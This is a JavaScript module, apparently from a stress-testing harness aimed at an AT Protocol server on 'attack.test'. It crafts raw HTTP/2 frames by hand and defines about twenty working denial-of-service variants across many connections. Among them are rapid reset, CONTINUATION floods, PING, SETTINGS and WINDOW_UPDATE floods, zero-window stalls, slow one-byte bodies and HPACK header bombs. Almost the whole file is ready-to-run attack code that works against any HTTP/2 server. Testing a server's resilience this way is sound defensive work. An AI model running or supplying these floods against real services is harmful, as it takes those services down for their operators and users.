// HTTP/2 in raw frames: streams that never end, floods of small frames, and windows that are never opened.
import { setTimeout as sleep } from 'node:timers/promises'
import { COLLECTION } from './stage.js'

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const [DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION] = [0, 1, 2, 3, 4, 6, 8, 9]
const [END_STREAM, END_HEADERS] = [1, 4]
const MAX_FRAME = 16_384

export function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** A header without the table of HPACK: by index of its name where it has one. */
function field(index, value) {
  const text = Buffer.from(value)
  const length = text.length < 127 ? [text.length] : [127, ...varint(text.length - 127)]
  return Buffer.concat([Buffer.from([index, ...length]), text])
}
function varint(rest) {
  const bytes = []
  for (; rest >= 128; rest >>= 7) bytes.push((rest & 127) | 128)
  return [...bytes, rest]
}
const named = (name, value) => Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), field(0, value).subarray(1)])

const get = (path, ...more) => Buffer.concat([Buffer.from([0x82, 0x86]), field(4, path), field(1, 'attack.test'), ...more])
const post = (path, ...more) =>
  Buffer.concat([Buffer.from([0x83, 0x86]), field(4, path), field(1, 'attack.test'), named('content-type', 'application/json'), ...more])
const hello = (...settings) => Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.concat(settings)), frame(SETTINGS, 1, 0)])
const setting = (id, value) => {
  const bytes = Buffer.alloc(6)
  bytes.writeUInt16BE(id, 0)
  bytes.writeUInt32BE(value, 2)
  return bytes
}
const NO_WINDOW = setting(4, 0)
const streams = (count) => Array.from({ length: count }, (_, i) => 2 * i + 1)
const LOGIN = '/xrpc/com.atproto.server.createSession'
const list = ({ large }) => `/xrpc/com.atproto.repo.listRecords?repo=${large.did}&collection=${COLLECTION}&limit=100`

/** Connections that send their first bytes, and then others over and over, until they are cut. */
async function run(attacker, { connections, first, then, pause = 0, reads = true }) {
  await attacker.repeat(attacker.scaled(connections), async (i) => {
    const socket = await attacker.open(i)
    if (reads) socket.resume()
    else socket.pause()
    const closed = new Promise((done) => socket.once('close', done))
    socket.write(first(attacker.stage))
    for (let round = 0; then && !socket.destroyed && !attacker.signal.aborted; round++) {
      if (!socket.write(then(round, attacker.stage))) await Promise.race([closed, new Promise((done) => socket.once('drain', done))])
      await sleep(pause)
    }
    await closed
    return 'cut'
  })
}

/** New streams in each round; their numbers must rise. */
const opening = (count, make) => (round) => Buffer.concat(streams(count).map((id) => make(id + 2 * count * round)))

export default [
  {
    name: 'http2',
    about: 'HTTP/2: streams without end, floods of frames, closed windows',
    run,
    variants: {
      'heads without an end': {
        connections: 1_000, first: () => Buffer.concat([hello(), frame(HEADERS, 0, 1, get('/', named('x-a', 'b'.repeat(10_000))))]),
      },
      'continuations without an end': {
        connections: 20,
        first: () => Buffer.concat([hello(), frame(HEADERS, 0, 1, get('/'))]),
        then: () => frame(CONTINUATION, 0, 1, Buffer.concat(Array(100).fill(named('x-a', 'b'.repeat(100))))),
      },
      'empty continuations': {
        connections: 20,
        first: () => Buffer.concat([hello(), frame(HEADERS, 0, 1, get('/'))]),
        then: () => Buffer.concat(Array(1_000).fill(frame(CONTINUATION, 0, 1))),
      },
      'bodies without an end': {
        connections: 100,
        first: () => Buffer.concat([hello(), ...streams(100).flatMap((id) => [
          frame(HEADERS, END_HEADERS, id, post(LOGIN)), frame(DATA, 0, id, Buffer.alloc(500, '{')),
        ])]),
      },
      'bodies of one byte at a time': {
        connections: 50,
        first: () => Buffer.concat([hello(), ...streams(100).map((id) => frame(HEADERS, END_HEADERS, id, post(LOGIN)))]),
        then: () => Buffer.concat(streams(100).map((id) => frame(DATA, 0, id, Buffer.from('x')))),
        pause: 1_000,
      },
      'empty data': {
        connections: 20,
        first: () => Buffer.concat([hello(), frame(HEADERS, END_HEADERS, 1, post(LOGIN))]),
        then: () => Buffer.concat(Array(1_000).fill(frame(DATA, 0, 1))),
      },
      'rapid reset': {
        connections: 20,
        first: () => hello(),
        then: opening(100, (id) => Buffer.concat([
          frame(HEADERS, END_HEADERS | END_STREAM, id, get('/xrpc/com.atproto.server.describeServer')), frame(RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])),
        ])),
      },
      'resets made by us': {
        connections: 20,
        first: () => hello(),
        then: opening(100, (id) => Buffer.concat([
          frame(HEADERS, END_HEADERS | END_STREAM, id, get('/')), frame(WINDOW_UPDATE, 0, id, Buffer.alloc(4)),
        ])),
      },
      'floods of settings': { connections: 20, first: () => hello(), then: () => Buffer.concat(Array(1_000).fill(frame(SETTINGS, 0, 0, setting(4, 65_535)))) },
      'floods of settings, unread': { connections: 20, first: () => hello(), then: () => Buffer.concat(Array(1_000).fill(frame(SETTINGS, 0, 0))), reads: false },
      'floods of pings': { connections: 20, first: () => hello(), then: () => Buffer.concat(Array(1_000).fill(frame(PING, 0, 0, Buffer.alloc(8)))) },
      'floods of pings, unread': { connections: 20, first: () => hello(), then: () => Buffer.concat(Array(1_000).fill(frame(PING, 0, 0, Buffer.alloc(8)))), reads: false },
      'floods of priorities': { connections: 20, first: () => hello(), then: opening(500, (id) => frame(PRIORITY, 0, id, Buffer.from([0, 0, 0, 0, 16]))) },
      'floods of windows': { connections: 20, first: () => hello(), then: () => Buffer.concat(Array(1_000).fill(frame(WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])))) },
      'windows that are never opened': {
        connections: 20,
        first: (stage) => Buffer.concat([hello(NO_WINDOW), ...streams(100).map((id) => frame(HEADERS, END_HEADERS | END_STREAM, id, get(list(stage))))]),
      },
      'windows of one byte': {
        connections: 20,
        first: (stage) => Buffer.concat([hello(NO_WINDOW), ...streams(100).map((id) => frame(HEADERS, END_HEADERS | END_STREAM, id, get(list(stage))))]),
        then: () => Buffer.concat(streams(100).map((id) => frame(WINDOW_UPDATE, 0, id, Buffer.from([0, 0, 0, 1])))),
        pause: 100,
      },
      'a large table of headers': {
        connections: 20,
        first: () => hello(setting(1, 0x7fffffff)),
        then: opening(50, (id) => frame(HEADERS, END_HEADERS | END_STREAM, id, get('/', Buffer.from([0x40, 3]), Buffer.from('x-a'), field(0, `${id}`.padEnd(2_000, 'x')).subarray(1)))),
      },
      'a bomb of headers': {
        connections: 20,
        first: () => hello(),
        then: opening(20, (id) => frame(HEADERS, END_HEADERS | END_STREAM, id,
          Buffer.concat([get('/'), Buffer.from([0x40, 3]), Buffer.from('x-a'), field(0, 'x'.repeat(3_000)).subarray(1), Buffer.alloc(10_000, 0xbe)]))),
      },
      'frames of the wrong size': { connections: 100, first: () => Buffer.concat([hello(), frame(DATA, 0, 1, Buffer.alloc(MAX_FRAME + 1))]) },
    },
  },
]
